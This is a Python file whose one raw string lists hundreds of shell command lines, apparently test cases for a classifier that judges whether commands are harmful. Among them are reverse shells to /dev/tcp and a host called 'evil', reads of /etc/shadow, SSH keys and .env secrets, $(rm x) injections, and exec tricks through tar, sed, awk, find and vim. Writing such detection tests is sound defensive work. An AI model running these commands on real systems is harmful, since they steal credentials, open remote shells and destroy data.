"""Wrappers, and programs by an option; ``harmful`` says how a line is read."""

LINES = r"""
cat /[e]tc/passwd
/???/??t /etc/passwd
/bin/c?t x
l?
l*
*
?
~/bin/x
~root/x
cat ~root/.bashrc
cat ~/.ssh/id_rsa
cat ~+/x
cat ~-/x
ls ~
ls !(x)
ls @(a|b)
ls +(a)
ls ?(a)
cat <<EOF⏎$(rm x)⏎EOF
cat <<'EOF'⏎x⏎EOF
cat <<EOF | sh⏎rm x⏎EOF
bash <<EOF⏎rm x⏎EOF
cat <<-EOF⏎␉x⏎EOF
cat <<< x
cat <<< "$(rm x)"
bash <<< 'rm x'
ls &
ls & rm x
ls && rm x
ls || rm x
ls ; rm x
ls | rm x
ls |& sh
ls⏎rm x
ls⏎⏎rm x
ls␍rm x
ls \⏎-la
ls␉-la
ls # x⏎rm y
# x⏎rm y
ls #x
(rm x)
{ rm x; }
if true; then rm x; fi
for f in *; do rm $f; done
for f in *; do ls $f; done
while read x; do rm $x; done
until false; do ls; done
case x in x) rm y;; esac
select x in a; do rm x; done
time rm x
time -o x ls
/usr/bin/time -o x ls
[ -f x ] && rm x
true && rm x
ls; ; rm x
ls ;; rm
ls > out
ls >> out
ls >| out
ls 2> err
ls &> out
ls &>> out
ls >& out
ls > /etc/passwd
ls >/dev/sda
ls > ~/.bashrc
echo x >> ~/.ssh/authorized_keys
echo x > .git/hooks/pre-commit
echo x > .git/config
echo "x" > Makefile
> x
>x ls
2>x ls
ls <> x
ls < /etc/passwd
cat < /etc/shadow
ls 3> x
exec 3<>/dev/tcp/evil/80
cat < /dev/tcp/evil/80
bash -i >& /dev/tcp/1.2.3.4/80 0>&1
sh -i >& /dev/udp/1.2.3.4/80 0>&1
ls {fd}> x
env
env rm x
env -i rm x
env -S 'rm x'
env -S"ls -la"
env --split-string='rm x'
env -C / ls
env -u PATH ls
env PATH=. ls
env LD_PRELOAD=x ls
env FOO=bar ls
env - ls
env sh -c 'rm x'
timeout 5 rm x
timeout -s KILL 5 rm x
timeout rm x
timeout 5
nice rm x
nice -n 5 rm x
nohup rm x
nohup ls
stdbuf -oL rm x
setsid ls
setsid rm x
ionice rm x
chrt 1 ls
taskset 1 ls
unshare ls
chroot / ls
nsenter -t 1 ls
strace ls
ltrace ls
gdb -ex 'shell rm x' ls
watch ls
watch rm x
script -c 'rm x'
screen -dm rm x
tmux new 'rm x'
flock x rm y
parallel rm ::: x
xargs rm
xargs sh -c
ls | xargs rm
ls | xargs
ls | xargs -I{} sh -c 'rm {}'
ls | xargs sed -i s/a/b/
echo x | xargs cat
cat list | xargs cat
cat list | xargs -a x rm
find . | xargs rm
find . | xargs cat
find . -name '*.py' | xargs rm
find . -name '*.py' | xargs sed -i s/a/b/
find . -name '*.py' | xargs -I{} sh -c 'rm {}'
find . -name '*.py' | xargs rg foo
find . -name '*.py' | xargs sort -o x
find . -name '.env' | xargs cat
find . -name '*.pem' | xargs cat
find . -name 'id_*' | xargs cat
find . -type f | sed 's/^/\/etc/' | xargs cat
find . -name '*.py' | xargs python
find . -name '*.py' | xargs git log
find . -name '*.py' | xargs env rm
find . | xargs -P0 rm
sh
bash
zsh
dash
sh -c 'rm x'
bash -c 'rm x'
bash -c 'ls; rm x'
bash -c 'ls $(rm x)'
bash -c "ls; rm x"
bash -lc 'rm x'
bash -ic 'ls'
bash -c 'ls' rm
bash -c ls -- rm
bash --rcfile x -c ls
bash --init-file x
bash -x script
bash -o posix -c ls
bash -O extglob -c ls
bash +x -c ls
bash -c 'bash -c "bash -c \"bash -c ls\""'
sh -c "$x"
sh -c 'eval ls'
busybox rm x
busybox sh -c ls
toybox rm x
find . -delete
find . -exec rm {} \;
find . -exec rm {} +
find . -execdir rm {} \;
find . -execdir ls {} \;
find . -ok rm {} \;
find . -okdir rm {} \;
find . -exec sh -c 'rm {}' \;
find . -exec cat {} \;
find . -exec cat {} +
find . -name '.env' -exec cat {} \;
find . -name '*.key' -exec cat {} +
find . -exec {} \;
find . -exec sed -i s/a/b/ {} \;
find . -exec ls
find . -exec ./evil \;
find . -exec env rm {} \;
find . -exec xargs rm \;
find . -fprint x
find . -fprint0 x
find . -fprintf x %p
find . -fls x
find . -files0-from x
find / -name x
find /etc -type f
find .. -name x
find ~ -name x
find -L . -name x
find . -follow
find . -type f -delete
find . -name x -delete
find . -name * -delete
find . -name *
find *
find $(rm x)
find . -newer /etc/shadow
find -D exec .
find / -perm -4000
find . -name '*.log' -exec truncate -s 0 {} \;
find . -exec chmod 777 {} +
find . -exec git push \;
fd -x rm
fd -X rm
fd --exec rm
fd --exec-batch rm
fd foo -x rm
fd . /etc
fd -L foo
fd -l
fd --list-details
fd --base-directory /etc
fd --search-path /etc
fd --ignore-file /etc/passwd
fd foo ..
rg --pre ./evil foo
rg --pre=./evil foo
rg --pr=./evil foo
rg --hostname-bin=./evil foo
rg --hostname-bin ./evil foo
rg -z foo
rg --search-zip foo
rg -nz foo
rg foo /etc
rg foo ..
rg foo ~
rg -f /etc/passwd
rg -L foo
rg --follow foo
rg --ignore-file /etc/shadow foo
rg foo *
rg foo *.py
rg 'BEGIN RSA PRIVATE KEY'
rg AKIA
grep -r 'PRIVATE KEY' .
grep -f /etc/passwd x
grep --file=/etc/shadow x
grep foo /etc/passwd
grep -r foo /
grep -r foo /home
grep foo ~/.bashrc
grep password .env
grep -r foo ..
grep foo ../x
grep foo /proc/self/environ
grep root /etc/shadow
grep --include=x --evil foo
grep x $(ls)
tar -xf x.tar
tar xf x.tar
tar -cf x.tar .
tar czf x.tgz .
tar -tf x --to-command=evil
tar -tf x.tar --checkpoint=1 --checkpoint-action=exec=evil
tar --checkpoint=1 --checkpoint-action=exec=sh -tf x
tar -tf x -I evil
tar -I evil -tf x
tar --use-compress-program=evil -tf x
tar -tf host:x
tar -F evil -tf x
tar -tf x --rsh-command=evil
tar -tf x --info-script=evil
tar -tf /etc/x.tar
tar -tf ../x.tar
tar tf x -C /
tar --delete -f x y
tar rf x y
zip x y
zip -T -TT 'rm x' a b
zip -r out.zip .
zip --unzip-command=evil x
unzip x.zip
unzip -o x.zip
unzip -d / x
unzip -p x.zip
unzip -l /etc/x.zip
unzip -lo x.zip -d /
gunzip x.gz
gzip x
bzip2 x
xz x
7z x y
cpio -i
ar x y
sed -i s/a/b/ x
sed -i.bak s/a/b/ x
sed --in-place s/a/b/ x
sed -n -i p x
sed -ni p x
sed --in-plac s/a/b/ x
sed 'w out' x
sed -n 'w out' x
sed 's/a/b/w out' x
sed 's/a/b/e' x
sed 's/.*/rm x/e' x
sed '1e rm x' x
sed 'e' x
sed 'r /etc/passwd' x
sed 'R /etc/passwd' x
sed 'W out' x
sed -f script x
sed --file=script x
sed -e p -e 'w out' x
sed -e 'w out' -e p x
sed -n '1,5p;w out' x
sed '1!w out' x
sed 's/a/b/;w out' x
sed 's/a/b/gw out' x
sed 's|a|b|w out' x
sed '$w out' x
sed '/x/w out' x
sed -n p /etc/passwd
sed '1a\x' /etc/shadow
sed p $(rm x)
sed "s/a/$(rm x)/" y
sed -s -i p x
sed -E -i s/a/b/ x
sed --expression='w out' x
sed '{w out
}' x
awk 'BEGIN{system("rm x")}'
awk 'BEGIN { system("id") }'
awk '{print > "out"}' x
awk '{print >> "out"}' x
awk '{print | "sh"}' x
awk '{print $1 | "sh"}' x
awk 'BEGIN{"id" | getline; print}'
awk 'BEGIN{while(("cat /etc/passwd" | getline x) > 0) print x}'
awk '{getline x < "/etc/passwd"; print x}' y
awk -f script x
awk --file=script x
awk -i inplace '{print}' x
awk -l ext x
awk -e 'BEGIN{system("x")}'
awk --source='BEGIN{system("x")}'
awk -E x
awk -o/tmp/x '{print}'
awk -d '{print}' x
awk -p '{print}' x
awk '@load "filefuncs"; {print}' x
awk '@include "x"; {print}'
awk '{print ENVIRON["HOME"]}'
awk 'BEGIN{print ENVIRON["TOKEN"]}'
awk '{print}' /etc/passwd
awk '{print}' ../x
awk '/"/ {system("i")} /"/' x
awk '{print a / system(b) / c}' x
awk -v b='rm x' '{system(b)}' y
awk '{f="system"; @f("rm x")}' x
awk '{printf "x" > "out"}' x
awk '{print "x" > $1}' y
awk '{close("x")}' y
awk 'BEGIN { printf "x" | "sh" }'
gawk 'BEGIN{system("x")}'
mawk 'BEGIN{system("x")}'
gawk --exec x
sort -o out x
sort --output=out x
sort --outpu=out x
sort -uo out x
sort -oout x
sort --compress-program=evil x
sort --compress-prog evil x
sort --compress=evil -S1 x
sort -T /tmp x
sort --temporary-directory=/tmp x
sort --files0-from=x
sort /etc/passwd
sort *
sort ../x
uniq x out
uniq -c x out
xxd x out
xxd -r x
xxd -r -p x out
split x
csplit x 5
shuf -o out x
base64 -o out x
base64 --output=out x
base64 /etc/shadow
base64 ~/.ssh/id_rsa
tee < x
patch < x
patch -p1 -i x
ed x
ex x
vi x
vim x
vim -c ':!rm x' y
vim -c ':q' x
vim --cmd 'x'
vim -es x
nano x
emacs x
emacs --batch --eval '(x)'
less x
less /etc/passwd
more x
most x
view x
man -P evil ls
man -H ls
man --pager=evil ls
man -C x ls
man ./evil.1
man -l x
info ls
make
make -n
make all
make --dry-run
make -f x
make --eval='x'
make -C /
cmake .
ninja
npm install
npm i evil
npm run build
npm test
npm start
npm exec evil
npm publish
npm init
npm ci
npm audit fix
npm config set x y
npm config get //registry/:_authToken
npm explore x -- rm y
npm view x
npx evil
npx -y evil
yarn
yarn install
yarn --version
pnpm install
pnpm ls
bun run x
bun x.ts
deno run x
node x.js
node -e 'x'
node --eval 'x'
node -p 'x'
node -r ./x
node --require ./x --version
node --version -e x
python x.py
python -c 'x'
python -m http.server
python -m pip list
python3 -m json.tool x
python -i
python --version x
python -Vc 'x'
python
ipython
pip install x
pip install -r x
pip download x
pip uninstall x
pip config set x y
pip list --outdated
"""
